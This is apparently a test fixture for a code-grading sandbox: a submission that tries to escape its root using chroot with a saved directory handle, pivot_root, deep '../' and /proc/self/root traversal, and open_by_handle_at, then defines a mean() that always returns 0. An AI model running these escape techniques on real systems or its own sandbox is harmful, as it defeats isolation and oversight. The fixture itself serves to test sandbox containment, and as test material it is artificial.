# /// attack
# tries = "breaks out of its root: chroot, pivot_root, open handles, and dots"
# shows = "tried"
# ///

# %% answer s_mean
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("deep", exist_ok=True)
handle = os.open("/", os.O_RDONLY)
try:
    os.chroot("deep")
    print("{{REACHED}}")
except OSError:
    pass
libc.syscall(155, b".", b"deep")  # pivot_root
os.fchdir(handle)
for path in ("/".join([".."] * 40) + "{{COURSE}}", "/proc/self/root/..{{COURSE}}", "/proc/self/cwd/../../..{{COURSE}}"):
    if os.path.exists(path):
        print("{{REACHED}}", path)
os.chdir("/submission")
# name_to_handle_at and open_by_handle_at go past the directories above
class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128)]


one, mount = Handle(size=128), ctypes.c_int()
if libc.name_to_handle_at(-100, b"/usr", ctypes.byref(one), ctypes.byref(mount), 0) == 0:
    if libc.open_by_handle_at(os.open("/usr", os.O_RDONLY), ctypes.byref(one), 0) >= 0:
        print("{{REACHED}} by a handle")
print("tried")


def mean(values):
    return 0
